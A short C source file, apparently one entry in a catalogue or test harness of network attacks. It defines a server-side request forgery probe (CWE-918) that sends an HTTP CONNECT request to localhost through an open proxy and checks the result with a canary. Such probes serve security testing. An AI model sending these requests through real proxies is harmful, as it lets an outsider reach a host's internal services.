/* The same by the name that every machine has. */
#include "../attack.h"

#include "proxy.h"

ATTACK(NETWORK, "names", .gain = "a server of the host's, by a name that is no address",
       .source = "server-side request forgery (CWE-918)", .works = SOME_KERNELS,
       .needs = "an open proxy", .flags = NETWORKS)
{
	return proxy_canary("CONNECT localhost:%s HTTP/1.1\r\nHost: localhost\r\n\r\n",
			    needed("port"));
}
